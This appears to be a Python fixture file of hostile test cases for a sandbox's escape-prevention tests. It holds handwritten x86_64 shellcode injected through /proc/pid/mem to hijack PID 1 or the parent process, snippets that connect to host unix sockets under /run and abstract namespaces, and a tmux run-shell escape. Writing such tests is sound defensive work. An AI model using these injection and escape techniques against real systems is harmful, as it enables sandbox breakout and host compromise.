"""Hostile snippets for issue 23: hijacking an unfiltered process of the sandbox, and reaching the host's sockets.

Each case names the listener it must not reach (or says it checks a fact inside the sandbox) and whether it runs
with a network grant; tests/test_sandbox_host_reach.py runs every case on both tiers and measures the effect outside.
"""

from __future__ import annotations

from dataclasses import dataclass

PROJECT_SOCKET = "project"    # a unix listener inside the project (visible inside the sandbox)
RUNTIME_SOCKET = "runtime"    # a unix listener under a private $XDG_RUNTIME_DIR-like folder of the host
ABSTRACT_SOCKET = "abstract"  # an abstract unix listener in the host's network namespace
DGRAM_SOCKET = "dgram"        # an abstract datagram unix listener (journald-like)
RUN_SOCKET = "run"            # a unix listener directly in /run, where Docker, D-Bus and systemd keep theirs
TMUX = "tmux"                 # a real tmux server whose socket sits in the host's /tmp
INSIDE = "inside"             # a fact checked inside the sandbox: the snippet must finish ok with value True


@dataclass(frozen=True)
class ReachCase:
    name: str
    code: str
    target: str
    network: bool = False
    strong_only: bool = False
    """Run on bubblewrap only: the fallback tier's miss is listed in `sandbox status` (FALLBACK_MISSES)."""


# x86_64: socket(AF_UNIX, SOCK_STREAM) + connect + write + exit_group, written over the instruction a process
# blocked in a system call returns to. Used against any process of the sandbox other than the snippet's own.
SHELLCODE = r'''
import os, struct
def shellcode(path):
    addr = struct.pack('H', 1) + path.encode() + b'\0'
    message = b'leak-from-a-hijacked-process'
    head = (bytes.fromhex('bf01000000' 'be01000000' '31d2' 'b829000000' '0f05' '89c7'))
    parts = [head, None, b'\xba' + struct.pack('<I', len(addr)) + bytes.fromhex('b82a000000' '0f05'),
             None, b'\xba' + struct.pack('<I', len(message)) + bytes.fromhex('b801000000' '0f05' '31ff' 'b8e7000000' '0f05')]
    size = sum(7 if p is None else len(p) for p in parts)
    code, offset, datas = b'', 0, [size, size + len(addr)]
    for part in parts:
        if part is None:
            part = b'\x48\x8d\x35' + struct.pack('<i', datas.pop(0) - (offset + 7))
        code += part
        offset += len(part)
    return code + addr + message
def hijack(pid, path):
    fields = open(f'/proc/{pid}/syscall').read().split()
    pc = int(fields[-1], 16)
    fd = os.open(f'/proc/{pid}/mem', os.O_RDWR)
    os.pwrite(fd, shellcode(path), pc)
    os.close(fd)
    return pc
def wake_process_1():
    """Leave an orphan behind (it is re-parented to process 1, whose wait() then returns into the shellcode)."""
    if os.fork() == 0:
        import time
        time.sleep(0.3)
        os._exit(0)
    os._exit(0)
'''

UNFILTERED_PROCESSES = r'''
import os
mine = open('/proc/self/status').read()
def field(text, name):
    return next((line.split(':', 1)[1].strip() for line in text.splitlines() if line.startswith(name + ':')), '')
problems = []
for pid in (p for p in os.listdir('/proc') if p.isdigit()):
    try:
        status = open(f'/proc/{pid}/status').read()
    except OSError:
        continue
    if field(status, 'Seccomp') != '2' or field(status, 'NoNewPrivs') != '1':
        problems.append(f'{pid} {field(status, "Name")} unfiltered')
    if int(pid) == os.getpid():
        continue
    try:
        os.close(os.open(f'/proc/{pid}/mem', os.O_RDWR))
    except OSError:
        continue
    if int(field(status, 'Seccomp_filters') or 0) < int(field(mine, 'Seccomp_filters') or 0):
        problems.append(f'{pid} {field(status, "Name")} has writable memory and a weaker filter')
problems
'''

CONNECT = ("import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.settimeout(2)\n"
           "s.connect({address!r})\ns.sendall(b'leak')")

CASES: list[ReachCase] = [
    ReachCase("pid1_memory_shellcode",
              SHELLCODE + "import os\nassert os.getpid() != 1, 'the snippet is process 1 itself'\n"
                          "hijack(1, {project_socket!r})\nwake_process_1()", PROJECT_SOCKET, strong_only=True),
    ReachCase("pid1_memory_shellcode_network",
              SHELLCODE + "import os\nassert os.getpid() != 1, 'the snippet is process 1 itself'\n"
                          "hijack(1, {project_socket!r})\nwake_process_1()", PROJECT_SOCKET, network=True,
              strong_only=True),
    ReachCase("parent_memory_shellcode",
              SHELLCODE + "import os\nhijack(os.getppid(), {project_socket!r})", PROJECT_SOCKET),
    ReachCase("child_hijacks_pid1",
              SHELLCODE + "import os, subprocess, sys\n"
                          "code = {shellcode_src!r} + 'hijack(1, ' + repr({project_socket!r}) + ')\\nwake_process_1()'\n"
                          "subprocess.run([sys.executable, '-c', code], check=True)", PROJECT_SOCKET, strong_only=True),
    ReachCase("every_process_filtered", UNFILTERED_PROCESSES + "\nproblems == [] or problems", INSIDE,
              strong_only=True),
    ReachCase("every_process_filtered_network", UNFILTERED_PROCESSES + "\nproblems == [] or problems", INSIDE,
              network=True, strong_only=True),
    ReachCase("runtime_dir_socket", CONNECT.replace("{address!r}", "{runtime_socket!r}"), RUNTIME_SOCKET),
    ReachCase("runtime_dir_socket_network", CONNECT.replace("{address!r}", "{runtime_socket!r}"), RUNTIME_SOCKET,
              network=True),
    ReachCase("abstract_socket", CONNECT.replace("{address!r}", "{abstract_socket!r}"), ABSTRACT_SOCKET),
    ReachCase("abstract_socket_network", CONNECT.replace("{address!r}", "{abstract_socket!r}"), ABSTRACT_SOCKET,
              network=True),
    ReachCase("run_socket", CONNECT.replace("{address!r}", "{run_socket!r}"), RUN_SOCKET),
    ReachCase("run_socket_network", CONNECT.replace("{address!r}", "{run_socket!r}"), RUN_SOCKET, network=True),
    ReachCase("run_socket_via_var_run_network", CONNECT.replace("{address!r}", "{var_run_socket!r}"), RUN_SOCKET,
              network=True),
    ReachCase("project_socket_network", CONNECT.replace("{address!r}", "{project_socket!r}"), PROJECT_SOCKET,
              network=True),
    ReachCase("abstract_socket_ctypes_network",
              "import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(1, 1, 0)\n"
              "assert fd >= 0, ctypes.get_errno()\nname = {abstract_socket!r}.encode()\n"
              "addr = struct.pack('H', 1) + name\n"
              "assert libc.connect(fd, addr, len(addr)) == 0, ctypes.get_errno()\nlibc.write(fd, b'leak', 4)",
              ABSTRACT_SOCKET, network=True),
    ReachCase("dgram_socketpair_sendto_network",
              "import socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
              "a.sendto(b'leak', {dgram_socket!r})", DGRAM_SOCKET, network=True),
    ReachCase("dgram_socketpair_reconnect_network",
              "import socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
              "a.connect({dgram_socket!r})\na.send(b'leak')", DGRAM_SOCKET, network=True),
    ReachCase("tmux_server_network",
              "import subprocess\nsubprocess.run(['tmux', '-S', {tmux_socket!r}, 'run-shell', "
              "'touch {tmux_canary}'], check=True, timeout=5)", TMUX, network=True),
    ReachCase("tmux_server", "import subprocess\nsubprocess.run(['tmux', '-S', {tmux_socket!r}, 'run-shell', "
              "'touch {tmux_canary}'], check=True, timeout=5)", TMUX),
    ReachCase("run_folder_hidden_network",
              "import os\n[name for folder in ('/run', '/var/run', {runtime_dir!r}) if os.path.isdir(folder)\n"
              " for name in os.listdir(folder)] == []", INSIDE, network=True, strong_only=True),
    ReachCase("socketpair_still_works_network",
              "import socket\na, b = socket.socketpair()\na.sendall(b'ping')\nb.recv(4) == b'ping'", INSIDE,
              network=True),
    ReachCase("socketpair_still_works",
              "import socket\na, b = socket.socketpair()\na.sendall(b'ping')\nb.recv(4) == b'ping'", INSIDE),
]
